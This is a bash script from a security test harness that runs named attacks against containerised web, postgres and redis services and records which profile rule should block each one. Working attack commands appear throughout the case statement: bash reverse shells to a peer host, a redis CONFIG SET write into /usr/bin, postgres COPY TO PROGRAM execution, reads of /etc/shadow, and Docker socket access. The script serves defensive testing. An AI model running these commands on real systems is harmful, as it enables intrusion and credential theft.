#!/usr/bin/env bash
# Runs one named attack against the harness's services, delivered as a compromised application would:
# through the web app's vulnerable POST /debug on web-1 (curl from the client), postgres COPY ... TO PROGRAM
# (psql from the client) or redis CONFIG SET / SAVE / REPLICAOF (redis-cli from the client). Never by
# docker exec into the victim. Prints one line saying what it did; a stopped victim is reported, not an error.
# Usage: testing/harness/attack.sh NAME|list|expect NAME   (HARNESS_PREFIX as for services.sh)
# `expect NAME` prints the evidence a block must name for the attack to count as stopped: RULE<TAB>TEXT, where
# TEXT is a part of what the decision says was done (its words before "; started by"). postgres's own entrypoint
# and initdb run /bin/sh, so its profile knows the shell: COPY ... TO PROGRAM is stopped at what the shell runs.
set -euo pipefail
# shellcheck source=lib.sh
. "$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)/lib.sh"

ATTACKS=(web-shell web-apt web-curl web-reverse-shell web-nc web-write-usr-bin web-cpu-burn web-docker-socket
  web-read-shadow web-new-peer web-inline-python web-ld-preload web-argv0 web-copied-shell web-quick-connect
  web-bind-shell web-volume-drop web-healthcheck-race pg-shell pg-reverse-shell redis-write-usr-bin redis-new-peer)
# The evidence each attack must be stopped by: the rule, and what the decision names.
declare -A EXPECT=(
  [web-shell]=$'profile\t/usr/bin/dash' [web-apt]=$'profile\t/usr/bin/apt-get' [web-curl]=$'profile\t/usr/bin/curl'
  [web-reverse-shell]=$'profile\t/usr/bin/bash' [web-nc]=$'profile\t/usr/bin/nc' [web-write-usr-bin]=$'profile\twrite of /usr/bin/evil'
  [web-cpu-burn]=$'resources\tCPU' [web-docker-socket]=$'profile\t/usr/bin/curl' [web-read-shadow]=$'profile\t/etc/shadow'
  [web-new-peer]=$'profile\t:4444' [web-inline-python]=$'profile\tcode inline (-c)' [web-ld-preload]=$'profile\tLD_PRELOAD'
  [web-argv0]=$'profile\t/usr/bin/dash' [web-copied-shell]=$'profile\t/tmp/python3' [web-quick-connect]=$'profile\t:4444'
  [web-bind-shell]=$'profile\ttcp:4445' [web-volume-drop]=$'profile\t/var/log/app/run.sh'
  [web-healthcheck-race]=$'profile\t/usr/bin/curl' [pg-shell]=$'profile\t/usr/bin/id' [pg-reverse-shell]=$'profile\t/usr/bin/timeout'
  [redis-write-usr-bin]=$'profile\twrite of /usr/bin/' [redis-new-peer]=$'profile\t:4444')
usage() { echo "usage: $(basename "$0") NAME|list|expect NAME   (NAME: ${ATTACKS[*]})" >&2; exit 2; }
[ $# -ge 1 ] && [ $# -le 2 ] || usage
name=$1
if [ "$name" = list ] && [ $# -eq 1 ]; then printf '%s\n' "${ATTACKS[@]}"; exit 0; fi
if [ "$name" = expect ] && [ $# -eq 2 ]; then
  [[ -n ${EXPECT[$2]:-} ]] || usage
  printf '%s\n' "${EXPECT[$2]}"; exit 0
fi
[ $# -eq 1 ] && [[ " ${ATTACKS[*]} " == *" $name "* ]] || usage

case $name in
  web-*) victim=${P}web-1 ;;
  pg-*) victim=${P}postgres ;;
  redis-*) victim=${P}redis ;;
esac
report() { printf '%s: %s: %s\n' "$name" "$victim" "$(printf '%s' "$*" | tr '\n' ' ' | cut -c1-400)"; }
if ! running "$victim"; then report "victim not running, nothing done"; exit 0; fi
running "$CLIENT" || die "the client container $CLIENT is not running: run services.sh up first"

# POST /debug on web-1 with a JSON body; prints the app's JSON answer, or curl's error.
debug() {
  client 40 curl -sS -m 30 -H 'Content-Type: application/json' --data "$1" "http://${P}web-1:8000/debug" 2>&1 || true
}
# An exec through /debug: the app runs ARGV itself, without a shell, for at most TIMEOUT seconds.
web_exec() {
  local timeout=$1 json='' arg; shift
  for arg in "$@"; do arg=${arg//\\/\\\\}; json+="${json:+,}\"${arg//\"/\\\"}\""; done
  report "POST /debug exec [$*] -> $(debug "{\"action\":\"exec\",\"argv\":[$json],\"timeout\":$timeout}")"
}
psql_() {
  client 30 psql -h "${P}postgres" -U postgres -AtX -v ON_ERROR_STOP=1 "$@" 2>&1 || true
}
redis() {
  client 15 redis-cli -h "${P}redis" "$@" 2>&1 || true
}

case $name in
  web-shell) web_exec 10 /bin/sh -c id ;;
  web-apt) web_exec 10 /usr/bin/apt-get --version ;;
  web-curl) web_exec 10 /usr/bin/curl -sS -m 5 "http://${PEER}:${PEER_PORT}/" ;;
  web-reverse-shell) web_exec 10 /bin/bash -c "bash -i >& /dev/tcp/${PEER}/${PEER_PORT} 0>&1" ;;
  web-nc) web_exec 10 /usr/bin/nc -w 5 "$PEER" "$PEER_PORT" ;;
  web-write-usr-bin)
    report "POST /debug write /usr/bin/evil -> $(debug '{"action":"write","path":"/usr/bin/evil","data":"#!/bin/sh\necho evil\n","mode":"755"}')" ;;
  web-cpu-burn)
    report "POST /debug burn 40s -> $(debug '{"action":"burn","seconds":40}')" ;;
  web-docker-socket)
    web_exec 10 /usr/bin/curl -sS -m 5 --unix-socket /var/run/docker.sock http://localhost/version ;;
  web-read-shadow)
    report "POST /debug read /etc/shadow -> $(debug '{"action":"read","path":"/etc/shadow"}' | cut -c1-120)..." ;;
  web-new-peer)
    report "POST /debug connect ${PEER}:${PEER_PORT} hold 8s -> $(debug "{\"action\":\"connect\",\"host\":\"${PEER}\",\"port\":${PEER_PORT},\"hold\":8}")" ;;
  web-inline-python)
    web_exec 10 /usr/bin/python3.11 -c "import socket; socket.create_connection(('${PEER}', ${PEER_PORT}), 3).close()" ;;
  web-ld-preload)
    # A hooked program is one that lives: the service's own interpreter running the service's own peer script.
    report "POST /debug exec [/usr/bin/python3.11 /srv/peer.py 4446] with LD_PRELOAD=/tmp/hook.so -> $(debug '{"action":"exec","argv":["/usr/bin/python3.11","/srv/peer.py","4446"],"env":{"LD_PRELOAD":"/tmp/hook.so"},"timeout":5}' | cut -c1-120)" ;;
  web-argv0)
    report "POST /debug exec /bin/dash as [python3 -c id] -> $(debug '{"action":"exec","executable":"/bin/dash","argv":["python3","-c","id"],"timeout":10}')" ;;
  web-copied-shell)
    out="copy /bin/dash to /tmp/python3 $(debug '{"action":"copy","from":"/bin/dash","to":"/tmp/python3","mode":"755"}')"
    report "POST /debug $out, then exec -> $(debug '{"action":"exec","argv":["/tmp/python3","-c","id"],"timeout":10}')" ;;
  web-quick-connect)
    report "POST /debug connect ${PEER}:${PEER_PORT} and close at once -> $(debug "{\"action\":\"connect\",\"host\":\"${PEER}\",\"port\":${PEER_PORT},\"hold\":0}")" ;;
  web-bind-shell)
    report "POST /debug listen on TCP 4445 for 12s -> $(debug '{"action":"listen","port":4445,"hold":12}')" ;;
  web-volume-drop)
    out="write /var/log/app/run.sh (the log volume) $(debug '{"action":"write","path":"/var/log/app/run.sh","data":"#!/bin/sh\nid\n","mode":"755"}')"
    report "POST /debug $out, then exec -> $(debug '{"action":"exec","argv":["/var/log/app/run.sh"],"timeout":10}')" ;;
  web-healthcheck-race)
    # The health check runs /usr/bin/curl every 2 s: run curl over and over across one.
    out=""
    for i in 1 2 3 4 5 6; do
      out+=" #$i $(debug "{\"action\":\"exec\",\"argv\":[\"/usr/bin/curl\",\"-sS\",\"-m\",\"1\",\"http://${PEER}:${PEER_PORT}/\"],\"timeout\":5}" | cut -c1-60)"
      sleep 0.4
    done
    report "POST /debug exec curl six times across a health check ->$out" ;;
  pg-shell)
    report "psql COPY (SELECT 1) TO PROGRAM 'id' -> $(psql_ -c "COPY (SELECT 1) TO PROGRAM 'id'") (id's output goes to the server's log)" ;;
  pg-reverse-shell)
    program="timeout 5 bash -c \"bash -i >& /dev/tcp/${PEER}/${PEER_PORT} 0>&1\""
    report "psql COPY (SELECT 1) TO PROGRAM '$program' -> $(psql_ -c "COPY (SELECT 1) TO PROGRAM '$program'")" ;;
  redis-write-usr-bin)
    out="SET $(redis SET harness:payload $'\n\n#!/bin/sh\necho evil\n\n')"
    out+=", CONFIG SET dir /usr/bin $(redis CONFIG SET dir /usr/bin)"
    out+=", CONFIG SET dbfilename evil $(redis CONFIG SET dbfilename evil)"
    out+=", SAVE $(redis SAVE)"
    out+=", restored dir /data $(redis CONFIG SET dir /data) dbfilename dump.rdb $(redis CONFIG SET dbfilename dump.rdb)"
    report "redis-cli $out" ;;
  redis-new-peer)
    out="REPLICAOF ${PEER} ${PEER_PORT} $(redis REPLICAOF "$PEER" "$PEER_PORT")"
    sleep 8
    info=$(redis INFO replication | tr -d '\r' | { grep -E '^(role|master_link_status):' || true; } | paste -sd' ')
    out+=", after 8s ${info:-no answer to INFO}"
    out+=", REPLICAOF NO ONE $(redis REPLICAOF NO ONE)"
    report "redis-cli $out" ;;
esac
